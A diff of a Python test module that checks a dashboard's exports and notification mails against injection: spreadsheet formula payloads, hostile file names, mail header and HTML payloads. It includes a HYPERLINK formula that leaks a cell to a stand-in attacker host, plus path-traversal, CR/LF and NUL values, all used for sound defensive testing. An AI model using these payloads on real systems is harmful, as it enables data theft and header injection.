@@ -12,7 +12,6 @@ from __future__ import annotations
 
 import csv
 import email
-import re
 import subprocess
 import uuid
 from collections import Counter
@@ -22,13 +21,13 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-from tests.security.security_helpers import MEASURED, bearer, login, make_run, store_file
 
 from dashboard.exports.columns import FORMULA_PREFIXES
 from dashboard.exports.registry import get_dataset
 from dashboard.exports.service import generate_export
 from dashboard.extensions import db
 from dashboard.models import AuditLog, Customer, ExportHistory, ExportSchedule, Product, Sale, User
+from tests.security.security_helpers import MEASURED, bearer, login, make_run, store_file
 
 API = "/api/reports/automation"
 COUNTS: Counter = Counter()
@@ -40,7 +39,7 @@ FORMULAS = [
     "@SUM(1)",
     "\t=1",
     "\r=1",
-    "=HYPERLINK(\"http://evil.example.com/?leak=\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click")',
     "=1+1",
     "-1",
     "+",
@@ -62,7 +61,9 @@ def _plant_formulas(factory) -> object:
     """A business whose every text field, of every export type, holds a formula payload."""
     business = factory.business("Formula Shop", timezone="UTC")
     for i, payload in enumerate(FORMULAS):
-        person = User(email=f"cashier{i}-{uuid.uuid4().hex[:6]}@example.com", name=_fit(User, "name", payload))
+        person = User(
+            email=f"cashier{i}-{uuid.uuid4().hex[:6]}@example.com", name=_fit(User, "name", payload)
+        )
         db.session.add(person)
         customer = Customer(
             business_id=business.id,
@@ -187,7 +188,7 @@ HOSTILE_NAMES = {
     "absolute": "/etc/shadow",
     "CR/LF": "Weekly\r\nSet-Cookie: hijack=1",
     "LF": "Weekly\nContent-Type: text/html",
-    "quotes": "Bob's \"best\" report; filename=evil.exe",
+    "quotes": 'Bob\'s "best" report; filename=evil.exe',
     "1,000 characters": "x" * 1000,
     "non-ASCII": "Отчёт — 売上レポート 😀 Ümlaut",
     "NUL": "report\x00.exe",
@@ -227,9 +228,14 @@ def test_hostile_names_stay_inside_the_export_root_and_give_clean_download_heade
     root = Path(app.config["EXPORT_ROOT"]).resolve()
     owner = login(app.test_client(), a.owner.email)
     tried = 0
+    postgres = db.engine.dialect.name == "postgresql"
     for label, name in HOSTILE_NAMES.items():
+        if postgres and "\x00" in name:
+            continue  # PostgreSQL cannot store it at all; the request guard refuses it at the door
         for fmt, extension in (("csv", ".csv"), ("excel", ".xlsx"), ("pdf", ".pdf")):
-            run = make_run(a.business, a.owner, format=fmt, file_name=_fit(ExportHistory, "file_name", name + extension))
+            run = make_run(
+                a.business, a.owner, format=fmt, file_name=_fit(ExportHistory, "file_name", name + extension)
+            )
             stored = store_file(app, run)
             on_disk = get_storage().local_path(stored).resolve()
             assert on_disk.is_relative_to(root), (label, stored)
@@ -253,7 +259,9 @@ def test_hostile_schedule_names_are_refused_or_run_cleanly(app, world, smtp_serv
     """Through the API: names with line breaks, NUL or 1,000 characters are refused (400 on the
     field); the others run, and their file, mail and headers stay clean."""
     a = world.a
-    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5)
+    app.config.update(
+        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
+    )
     client = app.test_client()
     headers = bearer(a.tokens["owner"])
     root = Path(app.config["EXPORT_ROOT"]).resolve()
@@ -269,7 +277,10 @@ def test_hostile_schedule_names_are_refused_or_run_cleanly(app, world, smtp_serv
         }
         response = client.post(f"{API}/schedules/", json=body, headers=headers)
         if any(c in name for c in "\r\n\x00") or len(name) > 255:
-            assert response.status_code == 400 and "name" in response.get_json()["errors"], (label, response.status_code)
+            assert response.status_code == 400 and "name" in response.get_json()["errors"], (
+                label,
+                response.status_code,
+            )
             refused += 1
             continue
         assert response.status_code == 201, (label, response.get_json())
@@ -288,7 +299,10 @@ def test_hostile_schedule_names_are_refused_or_run_cleanly(app, world, smtp_serv
     for received in smtp_server.received:
         message = email.message_from_bytes(received.data, policy=policy.default)
         for header, value in message.items():
-            assert "\n" not in str(value).replace("\r\n ", "").replace("\n ", "") or header in (), (header, value)
+            assert "\n" not in str(value).replace("\r\n ", "").replace("\n ", "") or header in (), (
+                header,
+                value,
+            )
         for part in message.iter_attachments():
             assert "/" not in part.get_filename() and "\\" not in part.get_filename()
         assert received.rcpt_tos == ["books@example.com"]
@@ -336,7 +350,9 @@ def test_mail_header_fields_with_line_breaks_are_refused_by_validation(app, worl
     tried = 0
     for payload in HEADER_PAYLOADS:
         line_break = any(c in payload for c in "\r\n")
-        response = client.post(f"{API}/schedules/", json={**schedule, "email_subject": payload}, headers=headers)
+        response = client.post(
+            f"{API}/schedules/", json={**schedule, "email_subject": payload}, headers=headers
+        )
         assert (response.status_code == 400) == line_break, (payload, response.status_code)
         if line_break:
             assert "email_subject" in response.get_json()["errors"]
@@ -349,14 +365,24 @@ def test_mail_header_fields_with_line_breaks_are_refused_by_validation(app, worl
             ({"default_recipients": [payload]}, f"{API}/notifications/", "PUT"),
             ({"reply_to_email": payload}, f"{API}/notifications/", "PUT"),
             ({"override_recipients": [payload]}, f"{API}/schedules/{a.schedule.id}/trigger/", "POST"),
-            ({"export_type": "INVENTORY", "format": "csv", "recipients": [payload]}, "/api/reports/exports/", "POST"),
+            (
+                {"export_type": "INVENTORY", "format": "csv", "recipients": [payload]},
+                "/api/reports/exports/",
+                "POST",
+            ),
         ):
             response = client.open(url, method=method, json=field_body, headers=headers)
             assert response.status_code == 400, (payload, url, response.status_code)
             tried += 1
     db.session.expire_all()
-    assert db.session.scalar(db.select(db.func.count()).select_from(ExportHistory).where(
-        ExportHistory.business_id == a.business.id)) == 2  # no trigger got through
+    assert (
+        db.session.scalar(
+            db.select(db.func.count())
+            .select_from(ExportHistory)
+            .where(ExportHistory.business_id == a.business.id)
+        )
+        == 2
+    )  # no trigger got through
     COUNTS["mail header payloads refused by validation"] += tried
     MEASURED["injection"] = dict(COUNTS, **{"formula payloads": len(FORMULAS)})
 
@@ -368,7 +394,9 @@ def test_mail_headers_stay_clean_even_when_stored_values_hold_line_breaks(app, w
     from dashboard.services import notifications
 
     a = world.a
-    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5)
+    app.config.update(
+        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
+    )
     settings = notifications.get_settings(a.business)
     tried = 0
     for payload in HEADER_PAYLOADS:
@@ -388,7 +416,11 @@ def test_mail_headers_stay_clean_even_when_stored_values_hold_line_breaks(app, w
         for received in smtp_server.received:
             assert received.rcpt_tos == ["books@example.com"], (payload, received.rcpt_tos)
             head = received.data.split(b"\r\n\r\n", 1)[0]
-            names = [line.split(b":", 1)[0].lower() for line in head.split(b"\r\n") if line and line[:1] not in b" \t"]
+            names = [
+                line.split(b":", 1)[0].lower()
+                for line in head.split(b"\r\n")
+                if line and line[:1] not in b" \t"
+            ]
             assert b"bcc" not in names and b"set-cookie" not in names, (payload, names)
             assert names.count(b"subject") == 1 and names.count(b"from") == 1 and names.count(b"to") == 1
             message = email.message_from_bytes(received.data, policy=policy.default)
@@ -412,10 +444,15 @@ def test_an_encoded_word_cannot_smuggle_a_line_break_into_a_header(app, world, s
     RFC 2047 word to "Report\\r\\nBcc: ..." and write that line as it is (it did, before
     mailer.clean_header turned "=?" into "= ?")."""
     a = world.a
-    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5)
+    app.config.update(
+        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
+    )
     client = app.test_client()
     headers = bearer(a.tokens["owner"])
-    assert client.put(f"{API}/notifications/", json={"from_name": ENCODED_WORD}, headers=headers).status_code == 200
+    assert (
+        client.put(f"{API}/notifications/", json={"from_name": ENCODED_WORD}, headers=headers).status_code
+        == 200
+    )
     body = {
         "name": ENCODED_WORD,
         "export_type": "INVENTORY",
@@ -501,13 +538,23 @@ def _escaped(text: str) -> str:
 
 
 def _pdf_text(path: Path) -> str:
-    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout
+    return subprocess.run(
+        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
+    ).stdout
 
 
 def test_html_in_data_is_text_in_pdfs(app, factory, tmp_path):
     business = factory.business("<i>Shop</i> & <b>Co</b>", timezone="UTC")
     for i, payload in enumerate(HTML_PAYLOADS):
-        db.session.add(Customer(business_id=business.id, name=payload, email=f"c{i}@example.com", phone="<br>", created_at=WHEN))
+        db.session.add(
+            Customer(
+                business_id=business.id,
+                name=payload,
+                email=f"c{i}@example.com",
+                phone="<br>",
+                created_at=WHEN,
+            )
+        )
     db.session.commit()
     result = generate_export(business, "CUSTOMERS", "pdf", {}, out_dir=tmp_path)
     text = " ".join(_pdf_text(result.path).split())
@@ -524,7 +571,9 @@ def test_html_in_names_and_messages_is_escaped_in_mails(app, world, smtp_server)
     from dashboard.services import notifications
 
     a = world.a
-    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5)
+    app.config.update(
+        MAIL_SERVER="127.0.0.1", MAIL_PORT=smtp_server.port, MAIL_SUPPRESS_SEND=False, MAIL_TIMEOUT=5
+    )
     settings = notifications.get_settings(a.business)
     tried = 0
     for payload in HTML_PAYLOADS:
@@ -562,4 +611,3 @@ def smtp_server():
     server = SmtpServer().start()
     yield server
     server.stop()
-
